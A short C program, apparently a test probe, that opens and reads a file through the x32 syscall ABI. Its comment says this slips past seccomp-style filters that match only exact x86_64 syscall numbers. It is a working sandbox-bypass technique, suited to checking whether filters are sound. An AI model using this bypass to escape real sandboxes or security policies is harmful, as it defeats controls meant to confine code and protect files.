/* x32_open PATH: openat through the x32 ABI (nr | 0x40000000, same AUDIT_ARCH as x86_64). A
 * filter matching exact x86_64 numbers would let it through. Prints "read=<content>" or
 * "openat=-1 errno=N" (ENOSYS=38 on kernels built without x32). */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

#define X32_SYSCALL_BIT 0x40000000L
#define X32_OPENAT 257L /* x32 shares the common x86_64 numbers below 512 */

int main(int argc, char **argv) {
    if (argc != 2) return 2;
    long fd = syscall(X32_SYSCALL_BIT | X32_OPENAT, AT_FDCWD, argv[1], O_RDONLY, 0);
    if (fd < 0) { printf("openat=-1 errno=%d\n", errno); return 1; }
    char buf[256] = {0};
    ssize_t got = read((int)fd, buf, sizeof buf - 1);
    printf("read=%s", got > 0 ? buf : "\n");
    return 0;
}
